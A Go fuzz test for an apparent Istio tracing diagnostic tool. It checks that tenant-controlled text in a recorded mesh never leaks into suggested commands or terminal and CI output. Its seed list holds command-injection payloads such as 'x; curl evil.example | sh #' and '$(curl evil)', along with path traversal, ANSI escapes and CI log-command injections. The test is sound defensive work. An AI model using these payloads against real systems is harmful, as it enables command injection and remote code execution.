package doctor

import (
	"bytes"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"sigs.k8s.io/yaml"

	"github.com/istio-lightstep/istio-lightstep/internal/mesh"
)

// FuzzExamine puts a text wherever a tenant can write one, and holds that no
// report lets it act on a terminal or on CI, and that no command has it but as
// one valid word.
func FuzzExamine(f *testing.F) {
	for _, hostile := range []string{
		"x; curl evil.example | sh #", "$(curl evil)`curl evil`", "x\x1b[2J\x1b]0;t\x07", "a\n::error::b\n##[error]c", "\u202e\u200b\u009b31m\u2028",
		"'; curl evil; '", "-rf", "../../secrets/x", "{name}", "{restore}", "%0A::error::", "\xff\x9b", "ratings-v1", "\"}]' ; sh #",
	} {
		f.Add(hostile)
	}
	d, err := New()
	require.NoError(f, err)
	f.Fuzz(func(t *testing.T, hostile string) {
		hostile += "zq7" // no template has it
		quoted, err := yaml.Marshal(strings.ToValidUTF8(hostile, "?"))
		if err != nil || len(hostile) > 1000 {
			return
		}
		text := strings.ReplaceAll(hostileMesh, "HOSTILE", string(jsonOf(t, quoted)))
		r, err := mesh.ReadRecorded(strings.NewReader(text))
		if err != nil {
			t.Fatal(err)
		}
		snapshot, err := mesh.Read(t.Context(), r, mesh.Options{})
		if err != nil {
			t.Fatal(err)
		}
		snapshot.At = now
		found := d.Examine(snapshot, nil)
		if len(found) == 0 {
			t.Fatal("nothing is found on a mesh that is broken")
		}
		result := d.Summarise(snapshot, nil, found)
		assertShown(t, result)
		for _, f := range append(result.Findings, result.Ignored...) {
			if strings.ContainsAny(hostile, " ;|&$`'\"\\<>()\n\t*?[]{}#~!") && strings.Contains(f.Mend, hostile) {
				t.Errorf("%s: a command has the text: %s", f.ID, f.Mend)
			}
		}
	})
}

// jsonOf is a YAML scalar as JSON, which fits in a flow of YAML.
func jsonOf(t *testing.T, scalar []byte) []byte {
	t.Helper()
	data, err := yaml.YAMLToJSON(scalar)
	require.NoError(t, err)
	return bytes.TrimSpace(data)
}

// hostileMesh is a mesh in which a tenant chose whatever a tenant can choose.
const hostileMesh = `
{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "istiod", "namespace": "istio-system", "labels": {"app": "istiod"}},
 "spec": {"template": {"spec": {"containers": [{"name": "discovery", "image": "docker.io/istio/pilot:1.31.0", "env": [{"name": "SHARED_MESH_CONFIG", "value": "shared"}]}]}}}}
---
{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "shared", "namespace": "istio-system", "labels": {"app.kubernetes.io/name": "istio-lightstep"}},
 "data": {"mesh": "extensionProviders: [{name: ours, opentelemetry: {service: collector.istio-system.svc.cluster.local, port: 4317}}]"}}
---
{"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop", "labels": {"a": HOSTILE}, "annotations": {"istio-lightstep.io/on-purpose": HOSTILE}}}
---
{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a", "namespace": "shop", "labels": {"app": HOSTILE},
  "annotations": {"sidecar.istio.io/status": HOSTILE, "proxy.istio.io/config": HOSTILE, "istio-lightstep.io/on-purpose": HOSTILE},
  "ownerReferences": [{"apiVersion": "x/v1", "kind": HOSTILE, "name": HOSTILE, "controller": true, "uid": "1"}]},
 "spec": {"nodeName": HOSTILE, "containers": [{"name": "istio-proxy", "image": HOSTILE}]}, "status": {"phase": "Running"}}
---
{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": HOSTILE, "namespace": HOSTILE, "labels": {"istio.io/rev": HOSTILE}},
 "spec": {"containers": [{"name": "istio-proxy", "image": "istio/proxyv2:1.16.0"}]}, "status": {"phase": "Running"}}
---
{"apiVersion": "telemetry.istio.io/v1", "kind": "Telemetry", "metadata": {"name": HOSTILE, "namespace": "shop", "labels": {"istio.io/rev": HOSTILE}},
 "spec": {"selector": {"matchLabels": {"app": HOSTILE}}, "tracing": [{"providers": [{"name": HOSTILE}], "disableSpanReporting": true, "randomSamplingPercentage": 5}]}}
---
{"apiVersion": "telemetry.istio.io/v1", "kind": "Telemetry", "metadata": {"name": HOSTILE, "namespace": "istio-system", "labels": {"app.kubernetes.io/name": "istio-lightstep"},
  "annotations": {"meta.helm.sh/release-name": HOSTILE, "meta.helm.sh/release-namespace": HOSTILE}}, "spec": {"tracing": [{"providers": [{"name": HOSTILE}]}]}}
---
{"apiVersion": "networking.istio.io/v1", "kind": "Sidecar", "metadata": {"name": HOSTILE, "namespace": "shop"}, "spec": {"egress": [{"hosts": [HOSTILE]}]}}
---
{"apiVersion": "networking.istio.io/v1", "kind": "Sidecar", "metadata": {"name": HOSTILE, "namespace": "istio-system"}, "spec": {"egress": [{"hosts": [HOSTILE]}]}}
---
{"apiVersion": "networking.istio.io/v1alpha3", "kind": "EnvoyFilter", "metadata": {"name": HOSTILE, "namespace": "shop"},
 "spec": {"configPatches": [{"applyTo": HOSTILE, "match": {"context": HOSTILE, "proxy": {"proxyVersion": HOSTILE}}, "patch": {"operation": HOSTILE, "value": {HOSTILE: HOSTILE}}},
  {"applyTo": "NETWORK_FILTER", "patch": {"operation": "MERGE", "value": {"typed_config": {"tracing": {HOSTILE: HOSTILE}}}}},
  {"applyTo": "CLUSTER", "patch": {"operation": "REMOVE"}}]}}
---
{"apiVersion": "security.istio.io/v1", "kind": "AuthorizationPolicy", "metadata": {"name": HOSTILE, "namespace": "istio-system"},
 "spec": {"action": HOSTILE, "rules": [{"from": [{"source": {HOSTILE: [HOSTILE], "namespaces": [HOSTILE]}}], "when": [{"key": HOSTILE, "values": [HOSTILE]}]}]}}
---
{"apiVersion": "security.istio.io/v1", "kind": "PeerAuthentication", "metadata": {"name": HOSTILE, "namespace": "istio-system"},
 "spec": {"mtls": {"mode": HOSTILE}, "portLevelMtls": {HOSTILE: {"mode": HOSTILE}}}}
---
{"apiVersion": "networking.istio.io/v1", "kind": "DestinationRule", "metadata": {"name": HOSTILE, "namespace": "shop"},
 "spec": {"host": "*", "exportTo": [HOSTILE], "trafficPolicy": {"tls": {"mode": HOSTILE}}}}
---
{"apiVersion": "networking.istio.io/v1", "kind": "ServiceEntry", "metadata": {"name": HOSTILE, "namespace": "shop"}, "spec": {"hosts": [HOSTILE], "exportTo": [HOSTILE]}}
---
{"apiVersion": "v1", "kind": "Event", "metadata": {"name": "e", "namespace": "shop"}, "reason": "FailedCreate",
 "involvedObject": {"kind": "ReplicaSet", "namespace": "shop", "name": HOSTILE}, "message": HOSTILE, "lastTimestamp": "2026-12-01T12:59:00Z"}
---
{"apiVersion": "apps/v1", "kind": "ReplicaSet", "metadata": {"name": HOSTILE, "namespace": "shop", "ownerReferences": [{"kind": HOSTILE, "name": HOSTILE, "controller": true}]},
 "spec": {"replicas": 2, "template": {"metadata": {"labels": {"app": HOSTILE}}}}}
`
